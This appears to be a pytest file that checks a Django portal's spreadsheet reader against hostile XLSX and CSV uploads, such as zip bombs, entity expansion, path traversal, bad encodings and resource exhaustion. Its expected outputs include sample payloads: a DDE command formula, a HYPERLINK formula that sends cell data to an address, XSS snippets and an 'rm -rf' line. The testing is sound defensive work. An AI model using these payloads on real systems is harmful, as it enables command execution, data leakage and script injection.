"""Hostile tables: refused with a sentence or read harmlessly, and the next is served.

What becomes of each file of `hostile_files.py` stands here, whole: the codes of all
problems, or all rows.
"""

import io
import itertools
import subprocess
import sys
from collections.abc import Callable, Iterable
from concurrent.futures import ThreadPoolExecutor
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.utils.translation import override

from core import spreadsheet_child, spreadsheet_reading
from core.problems import OperationRefused
from core.spreadsheet_reading import Fault, read_rows, read_table
from tests.core.hostile_files import (
    BOOKS,
    PARSED_PARTS,
    TEXTS,
    Maker,
    echo,
    good_book,
    hostile_names,
)

pytestmark = pytest.mark.once

MAX_ROWS, MAX_COLUMNS = 100, 10
GOOD = [["Балыкчы", "Ысык-Көл", Decimal(12)]]
PEOPLE = [["Аты", "Саны"], ["Балыкчы", "12"], ["Ысык-Көл", "7"]]
Outcome = list[Any] | tuple[str, ...]

SENTENCES = {
    "unsafe": "The file is damaged or cannot be opened safely. Save it anew.",
    "no-sheet": "The file has no sheet with a table.",
    "encoding": "The text of the file cannot be read. Save it as CSV in UTF-8.",
    "too-big": "The file is too big for a table.",
    "wrong-type": "Hand in the table as an XLSX or CSV file.",
    "stopped": "The table needs too much time or memory to read. Make it smaller.",
    "old-or-locked": "The file is in the old XLS format or under a password. "
    "Save it as XLSX without a password.",
    "too-many-rows": "The table may have at most 100 rows.",
    "row-beyond": "the table may have at most 100 rows.",
    "column-beyond": "the table may have at most 10 columns.",
    "formula": "there is a formula. Enter its value instead.",
    "error-value": "the cell holds an error.",
    "too-long": "the text is too long.",
}
# sentences that begin with the place of the cell
AT_A_CELL = {"row-beyond", "column-beyond", "formula", "error-value", "too-long"}

UNSAFE = (
    "gigabyte cell",
    "ratio of a thousand",
    "unpacks to 31 MB",
    "201 members",
    "20 000 members",
    "overlapping members",
    "the sheet twice",
    "the types twice",
    "the sheet again in capitals",
    "cut in the middle",
    "cut in the directory",
    "only the mark",
    "mark and zeros",
    "wrong checksum",
    "says less than it holds",
    "says 3 GB",
    "a member under a password",
    "unknown packing",
    "a greedy unpacker",
    *(f"laughs in {part}" for part in PARSED_PARTS),
    *(f"outside entity in {part}" for part in PARSED_PARTS),
    "outside parameter entity",
    "one entity, 100 000 times",
    "XML that does not end",
    "no XML at all",
    "an empty part",
    "HTML for a sheet",
    "a sheet in UTF-7",
    "a sheet in no encoding",
    "UTF-16 that says UTF-8",
    "broken UTF-8",
    "a raw control character",
    "a NUL by number",
    "a lone surrogate by number",
    "half a surrogate in UTF-8",
    "no letter U+FFFE",
    "a dimension of nonsense",
    "row 0",
    "row -5",
    "a cell in row -1",
    "a row number of 5 000 digits",
    "row NaN",
    "column ZZZZ",
    "a place without a column",
    "a cell twice",
    "a row twice",
    "NaN",
    "Infinity",
    "5 000 digits",
    "hexadecimal",
    "a word as number",
    "a flag of nonsense",
    "a written date of nonsense",
    "a string out of range",
    "string -1",
    "string x",
    "no strings",
    "no relations of the book",
    "no types",
    "no workbook",
    "an unknown relation",
    "types of a text document",
    "types without strings",
)
READ_AS_THE_GOOD_ONE = (
    "nested zips",
    "names that lead elsewhere",
    "says more than it holds",
    "junk after the zip",
    "laughs in the theme",
    "a document type without entities",
    "200 000 levels in the sheet",
    "200 000 levels in the styles",
    "an XInclude",
    "a sheet in UTF-16",
    "a sheet in windows-1251",
    "a dimension over the world",
    "merged over the world",
    "20 000 overlapping merges",
    "columns over the world",
    "100 000 empty rows",
    "100 000 empty cells",
    "no relations of the package",
    "no styles",
    "an absolute target",
    "2 000 sheets of one part",
    "a dialogue sheet",
    "a macro sheet",
    "links to another book",
    "names that run",
    "a name of sheet 999",
    "20 000 names",
    "validation from another book",
    "a condition that calls the net",
    "a link that is a script",
    "a broken condition",
    "a picture that is missing",
    "macros",
    "an embedded program",
)
BOOK_OUTCOMES: dict[str, Outcome] = {
    **dict.fromkeys(UNSAFE, ("unsafe",)),
    **dict.fromkeys(READ_AS_THE_GOOD_ONE, GOOD),
    "an empty zip": ("wrong-type",),
    "a program before the zip": ("wrong-type",),
    "200 000 levels in a cell": [],
    "100 000 attributes": [],
    "escaped control characters": [["a_x0000_b_xD800__x003D_1"]],
    "the far corner": ("row-beyond",),
    "the last column": ("column-beyond",),
    "16 384 columns": ("column-beyond",) * 20,
    "row 99 999 999 999": ("row-beyond",),
    "row 1e3": ("row-beyond",),
    "rows that do not rise": [["first"], ["second"], ["third"]],
    "101 rows": ("row-beyond",),
    "a text of 40 000 letters": ("too-long",),
    "a formula": ("formula",),
    "a formula with its value": ("formula",),
    "a formula of a text": ("formula",),
    "an array formula": ("formula",),
    "a shared formula": ("formula",) * 2,
    "a shared formula of nobody": ("formula",),
    "a data table": ("formula",),
    "an empty formula": ("formula",),
    "a command": ("formula",),
    "25 formulas": ("formula",) * 20,
    "text that looks like a formula": [["=1+1"]],
    "text of a lost formula": [["=1+1"]],
    "all error values": ("error-value",) * 7,
    "1e999": ("error-value",),
    "-1e999": ("error-value",),
    "1e-999": [[Decimal(0)]],
    "1E308": [[Decimal("1E+308")]],
    "4 000 digits": ("error-value",),
    "an empty number": [],
    "an unknown type": [["text"]],
    "a flag of 7": [[True]],
    "a date in the year 4 billion": ("error-value",),
    "a date before the calendar": ("error-value",),
    "a date of 1e999": ("error-value",),
    "dates from 1904": [[date(1904, 1, 2)]],
    "dates from 1900": [[date(2016, 5, 1)]],
    "an unknown style": [[Decimal(5)]],
    "one string for every cell": ("stopped",),
    "1 000 000 strings": [["Балыкчы", "x", Decimal(12)]],
    "1 000 000 styles": ("stopped",),
    "a string of 1 000 000 letters": ("too-long",),
    "no sheet": ("no-sheet",),
    "no sheets in the list": ("no-sheet",),
    "an empty sheet": [],
    "a target outside": ("no-sheet",),
    "a target in a file": ("no-sheet",),
    "a target in the net": ("no-sheet",),
    "the book as its sheet": [],
    "the strings as the sheet": [],
    "a hidden sheet first": [["second"]],
    "a very hidden sheet first": [["second"]],
    "hidden sheets only": ("no-sheet",),
    "a chart only": ("no-sheet",),
    "Strict Open XML": ("no-sheet",),
    "an OpenDocument table": ("wrong-type",),
    "a text document": ("wrong-type",),
    "a binary book": ("wrong-type",),
    "an old book": ("old-or-locked",),
    "a book under a password": ("old-or-locked",),
}
# they take seconds each, so both are read at the same time, in a test of their own
SLOW = ("1 000 000 strings", "1 000 000 styles")

TEXT_OUTCOMES: dict[str, Outcome] = {
    "NUL at once": ("wrong-type",),
    "NUL after 5 000 letters": ("wrong-type",),
    "NUL in UTF-16": ("encoding",),
    "UTF-16 without a mark": ("wrong-type",),
    "UTF-16 of Cyrillic only, without a mark": ("encoding",),
    "UTF-16 with a mark": PEOPLE,
    "UTF-16 the other way round": PEOPLE,
    "half a letter of UTF-16": ("encoding",),
    "a lone surrogate in UTF-16": ("encoding",),
    "UTF-32": ("encoding",),
    "UTF-7": [["+BBA-", "x"]],
    "windows-1251": [["Аты", "Саны"], ["Балыкчы", "12"], ["Ысык-Кол", "7"]],
    "a byte that windows-1251 lacks": ("encoding",),
    "broken UTF-8": ("encoding",),
    "UTF-8 cut in a letter": ("encoding",),
    "an overlong slash": ("encoding",),
    "a surrogate in UTF-8": ("encoding",),
    "all kinds of line ends": [["a", "1"], ["b", "2"], ["c", "3"], ["d", "4"]],
    "line ends of old Macs": [["a", "1"], ["b", "2"], ["c", "3"]],
    "a line end in a quote": [["a", "x\r\ny"], ["b", "2"]],
    "other line ends of Unicode": [["a\u2028b\x85cde", "2"]],
    "an open quote": ("unsafe",),
    "an open quote of 9 MB": ("unsafe",),
    "a quote that goes on": ("unsafe",),
    "quotes in quotes": [['a "b" c', '"']],
    "9 MB of quotes": ("unsafe",),
    "a line of 9 MB": ("unsafe",),
    "a cell of 40 000 letters": ("too-long",),
    "more than 10 MB": ("too-big",),
    "10 000 columns": ("column-beyond",) * 20,
    "9 million empty columns": [],
    "1 000 000 empty lines": ("row-beyond",) * 2,
    "1 000 000 empty lines only": [],
    "2 000 000 rows": ("row-beyond",) * 20,
    "only spaces": [],
    "only a mark": [],
    "only a mark of UTF-16": [],
    "nothing": ("wrong-type",),
    "a mark in the middle": [["a", "\ufeffb"], ["\ufeff=1", "2"]],
    "two marks": [["\ufeffa", "b"]],
    "control characters": ("encoding",),
    "letters that turn the line": [["\u202efdp.exe", "\u2066x\u2069"]],
    "no letters U+FFFE": [["ab", "c"]],
    "formulas": [
        ["=1+1"],
        ["+1+1"],
        ["-1+1"],
        ["@SUM(1)"],
        ["=cmd|' /C calc'!A0"],
        ['=HYPERLINK("http://127.0.0.1:9/?x="&A1;"x")'],
        ["=1+1"],  # the apostrophe that our own export sets
        ["=1+1"],
    ],
    "commas in a quoted heading": [["a,b,c,d", "x"], ["1", "2"]],
    "an empty line first": [[None, None], [None, None], ["a", "b"], ["1", "2"]],
    "every delimiter": [["a", "b,c\td|e"], ["1", "2,3\t4|5"]],
    "no delimiter": [["a"], ["b"]],
    "a list that says its delimiter": [["sep=", None], ["a", "b"]],
    "numbers of nonsense": [["NaN", "Infinity", "1e999", "-0", "0x10", "1_000"]],
    "HTML": [["<html><script>alert(1)</script></html>"]],
    "SVG": [["<svg onload='alert(1)' xmlns='http://www.w3.org/2000/svg'/>"]],
    "billion laughs": ("unsafe",),
    "RTF": [["{\\rtf1\\ansi text}"]],
    "a script": [["#!/bin/sh"], ["rm -rf /tmp/x"]],
    **dict.fromkeys(
        (
            "PDF", "PNG", "JPEG", "GIF", "a Windows program", "a Linux program", "GZIP",
            "RAR", "SQLite", "random bytes",
        ),
        ("wrong-type",),
    ),
    "a zip without a book": ("unsafe",),
}  # fmt: skip

FORMULA, ERROR = Fault("formula"), Fault("error-value")
BEYOND, LONG = Fault("column-beyond"), Fault("too-long")
# where the reading row by row (for imports) ends differently: a cell that cannot be
# taken does not refuse the file, and rows have to rise
BY_ROWS: dict[str, Outcome] = {
    "the far corner": ("too-many-rows",),
    "the last column": [[*[None] * 10, BEYOND]],
    "16 384 columns": [[*[Decimal(1)] * 10, BEYOND]],
    "row 99 999 999 999": ("too-many-rows",),
    "row 1e3": ("too-many-rows",),
    "rows that do not rise": ("unsafe",),
    "101 rows": ("too-many-rows",),
    "a text of 40 000 letters": [[LONG]],
    "a formula": [[FORMULA]],
    "a formula with its value": [[FORMULA]],
    "a formula of a text": [[FORMULA]],
    "an array formula": [[FORMULA]],
    "a shared formula": [[FORMULA], [FORMULA]],
    "a shared formula of nobody": [[FORMULA]],
    "a data table": [[FORMULA]],
    "an empty formula": [[FORMULA]],
    "a command": [[FORMULA]],
    "25 formulas": [[FORMULA]] * 25,
    "all error values": [[ERROR] * 7],
    "1e999": [[ERROR]],
    "-1e999": [[ERROR]],
    "4 000 digits": [[ERROR]],
    "a date in the year 4 billion": [[ERROR]],
    "a date before the calendar": [[ERROR]],
    "a date of 1e999": [[ERROR]],
    "one string for every cell": [["ы" * 30_000] * 10] * 90,
    "a string of 1 000 000 letters": [["Балыкчы", LONG, Decimal(12)]],
    "a cell of 40 000 letters": [[LONG]],
    "10 000 columns": [[*["x"] * 10, BEYOND]],
    "1 000 000 empty lines": ("too-many-rows",),
    "2 000 000 rows": ("too-many-rows",),
    "an empty line first": [["a", "b"], ["1", "2"]],
    "a list that says its delimiter": [["sep="], ["a", "b"]],
}

# and where both end alike; the way in is the same, so a file of each sort is enough
READ_BY_ROWS_TOO = {
    *BY_ROWS,
    "ratio of a thousand",
    "wrong checksum",
    "a greedy unpacker",
    "laughs in xl/worksheets/sheet1.xml",
    "XML that does not end",
    "broken UTF-8",
    "row 0",
    "row -5",
    "a cell twice",
    "a row twice",
    "text that looks like a formula",
    "NaN",
    "dates from 1904",
    "string -1",
    "a hidden sheet first",
    "hidden sheets only",
    "an OpenDocument table",
    "an old book",
    "NUL in UTF-16",
    "an open quote",
    "a line of 9 MB",
    "more than 10 MB",
    "nothing",
    "formulas",
    "quotes in quotes",
    "PNG",
}


def refused(problems: Any) -> tuple[str, ...]:
    """The codes, after a look at the sentences."""
    for problem in problems:
        with override("en"):
            sentence = str(problem)
        place, _colon, rest = sentence.partition(": ")
        at_a_cell = problem.code in AT_A_CELL
        assert (rest if at_a_cell else sentence) == SENTENCES[problem.code]
        assert place.startswith("Row ") == at_a_cell
    return tuple(problem.code for problem in problems)


def whole(content: bytes) -> Outcome:
    """What the reading of a whole table makes of a file."""
    try:
        return read_table(
            io.BytesIO(content), max_rows=MAX_ROWS, max_columns=MAX_COLUMNS
        )
    except OperationRefused as error:
        return refused(error.problems)


def by_rows(content: bytes, max_rows: int = MAX_ROWS) -> Outcome:
    """What the reading row by row makes of a file."""
    try:
        with read_rows(
            io.BytesIO(content), max_rows=max_rows, max_columns=MAX_COLUMNS
        ) as table:
            return [cells for _number, cells in table.rows]
    except OperationRefused as error:
        return refused(error.problems)


def together(*calls: Callable[[], Any]) -> list[Any]:
    """Results of calls that wait for processes of their own, at the same time."""
    with ThreadPoolExecutor(len(calls)) as pool:
        return [future.result() for future in [pool.submit(call) for call in calls]]


def assert_the_next_is_served() -> None:
    """A sound book read right after is read as ever."""
    assert whole(good_book()) == GOOD


def test_the_tables_of_files_and_outcomes_are_the_same() -> None:
    assert set(BOOKS) == set(BOOK_OUTCOMES)
    assert set(TEXTS) == set(TEXT_OUTCOMES)
    assert set(BY_ROWS) <= set(BOOKS) | set(TEXTS)
    assert set(BOOKS) & set(TEXTS) == {"broken UTF-8"}
    assert len(BOOKS) >= 40
    assert len(TEXTS) >= 20
    told = set(SENTENCES) - {"too-many-rows"}
    codes = {c for o in BOOK_OUTCOMES.values() if isinstance(o, tuple) for c in o}
    codes |= {c for o in TEXT_OUTCOMES.values() if isinstance(o, tuple) for c in o}
    assert codes == told


def test_the_sound_book_is_read_both_ways() -> None:
    assert (whole(good_book()), by_rows(good_book())) == (GOOD, GOOD)


def batches(names: Iterable[str], size: int = 12) -> list[list[str]]:
    listed = [name for name in names if name not in SLOW]
    return [listed[start : start + size] for start in range(0, len(listed), size)]


def outcomes(name: str, content: bytes) -> list[Outcome]:
    """What becomes of a file read whole and, where that is asked, row by row."""
    ways = [whole, by_rows] if name in READ_BY_ROWS_TOO else [whole]
    return [way(content) for way in ways]


def hand_in(makers: dict[str, Maker], names: list[str]) -> dict[str, list[Outcome]]:
    """Hostile files one after the other, and the sound one right after every third."""
    found: dict[str, list[Outcome]] = {}
    for number, name in enumerate(names, start=1):
        found[name] = outcomes(name, makers[name]())
        if number % 3 == 0 or number == len(names):
            assert_the_next_is_served()
    return found


def seen(makers: dict[str, Maker], names: list[str]) -> dict[str, list[Outcome]]:
    """Two users hand in at the same time; one may be served while the other attacks."""
    one, other = together(
        lambda: hand_in(makers, names[::2]), lambda: hand_in(makers, names[1::2])
    )
    return one | other


def expected(table: dict[str, Outcome], names: list[str]) -> dict[str, list[Outcome]]:
    return {
        name: [table[name]]
        + [BY_ROWS.get(name, table[name])] * (name in READ_BY_ROWS_TOO)
        for name in names
    }


@pytest.mark.parametrize("names", batches(BOOKS), ids=lambda names: names[0])
def test_hostile_books(names: list[str]) -> None:
    assert seen(BOOKS, names) == expected(BOOK_OUTCOMES, names)


def test_books_of_a_million_parts(monkeypatch: pytest.MonkeyPatch) -> None:
    """Each ends by itself or at a limit of its process, and nobody waits for it."""
    # a busy computer is no fault: the limit on wall time has a test of its own
    monkeypatch.setitem(spreadsheet_reading.WALL_SECONDS, "whole", 600)
    contents = [BOOKS[name]() for name in SLOW]
    slow, styles, next_one = together(
        lambda: whole(contents[0]),
        lambda: whole(contents[1]),
        lambda: whole(good_book()),
    )
    assert [slow, styles] == [BOOK_OUTCOMES[name] for name in SLOW]
    assert next_one == GOOD
    assert_the_next_is_served()


@pytest.mark.parametrize("names", batches(TEXTS), ids=lambda names: names[0])
def test_hostile_texts(names: list[str]) -> None:
    assert seen(TEXTS, names) == expected(TEXT_OUTCOMES, names)


# The limits themselves -----------------------------------------------------------------


def test_nothing_is_unpacked_to_a_disk(tmp_path: Path) -> None:
    outside = tmp_path / "evil-member"
    assert whole(hostile_names(str(outside))) == GOOD
    root = Path(settings.BASE_DIR)
    places = [tmp_path, root, root.parent, root.parent.parent, Path.home(), Path("/")]
    assert [place for place in places if (place / "evil-member").exists()] == []


def test_rows_that_repeat_one_text_without_end_stop_in_the_middle() -> None:
    content = echo(32_000, 3_000)
    with read_rows(io.BytesIO(content), max_rows=1_000, max_columns=10) as table:
        # 60 million letters in rows of 320 000
        whole_rows = spreadsheet_child.MAX_LETTERS["rows"] // 320_000
        numbers = [
            number for number, _cells in itertools.islice(table.rows, whole_rows)
        ]
        with pytest.raises(OperationRefused) as error:
            next(table.rows)
    assert numbers == list(range(1, whole_rows + 1))
    assert refused(error.value.problems) == ("stopped",)
    assert by_rows(good_book()) == GOOD


def run_child(patch: str, content: bytes, way: str = "whole") -> Any:
    """The process that parses, with one of its limits made smaller."""
    start = f"import core.spreadsheet_child as c; {patch}; c.main()"
    kind = "xlsx" if content[:2] == b"PK" else "csv"
    return subprocess.run(
        [sys.executable, "-c", start, kind, "100", "10", way],
        input=content,
        capture_output=True,
        cwd=settings.BASE_DIR,
        env={},
        check=False,
    )


def test_the_child_ends_at_its_limits() -> None:
    assert run_child("pass", good_book()).returncode == 0
    # 24: SIGXCPU
    assert run_child("c.CPU_SECONDS['whole'] = 1", BOOKS[SLOW[0]]()).returncode == -24
    tight = run_child("c.MEMORY_BYTES = 120_000_000", BOOKS[SLOW[0]]())
    assert (tight.returncode, tight.stdout) == (
        0,
        b'{"rows": [], "problems": [{"code": "stopped"}]}',
    )


@pytest.mark.parametrize(
    "ending",
    [
        "import os, signal; os.kill(os.getpid(), signal.SIGKILL)",
        "raise SystemExit(3)",
        "import time; time.sleep(60)",
        "while True: print('x' * 1_000_000)",
    ],
    ids=["killed", "failed", "asleep", "endless"],
)
def test_a_child_that_goes_wrong_is_a_sentence(
    ending: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    limit = (
        "import resource; b = 1_000_000; "
        "resource.setrlimit(resource.RLIMIT_FSIZE, (b, b))\n"
    )
    with monkeypatch.context() as patch:
        patch.setattr(
            spreadsheet_reading,
            "_command",
            lambda *_: [sys.executable, "-c", limit + ending],
        )
        patch.setitem(spreadsheet_reading.WALL_SECONDS, "whole", 2)
        assert whole(good_book()) == ("stopped",)
    assert_the_next_is_served()


MEASURE = """
import io, json, resource, sys
from pathlib import Path
import django
django.setup()
from core.problems import OperationRefused
from core.spreadsheet_reading import read_rows, read_table

def peak():
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024

before = peak()
for path in sys.argv[1:]:
    content = Path(path).read_bytes()
    try:
        read_table(io.BytesIO(content), max_rows=100, max_columns=10)
    except OperationRefused:
        pass
    try:
        with read_rows(io.BytesIO(content), max_rows=100, max_columns=10) as table:
            for row in table.rows:
                pass
    except OperationRefused:
        pass
print(json.dumps([before, peak()]))
"""
HEAVY = (
    "gigabyte cell",
    "overlapping members",
    "the far corner",
    "one string for every cell",
    "a string of 1 000 000 letters",
    "a line of 9 MB",
    "an open quote of 9 MB",
    "2 000 000 rows",
)


def test_the_portal_itself_stays_small(tmp_path: Path) -> None:
    """A process of the portal reads the heaviest files; only its own peak counts."""
    paths = []
    for name in HEAVY:
        path = tmp_path / name
        path.write_bytes((BOOKS | TEXTS)[name]())
        paths.append(str(path))
    environment = {
        "PORTAL_TEST": "1",
        "DJANGO_SETTINGS_MODULE": "config.settings",
        "DATABASE_URL": "sqlite:///:memory:",
        "REDIS_URL": "",
        "VAR_DIR": str(tmp_path / "var"),
    }
    ended = subprocess.run(
        [sys.executable, "-c", MEASURE, *paths],
        capture_output=True,
        text=True,
        cwd=settings.BASE_DIR,
        env=environment,
        check=True,
    )
    before, after = (int(n) for n in ended.stdout.strip("[]\n").split(","))
    # megabytes: files of 10, read twice, and answers of at most 12 million letters
    assert after - before < 300
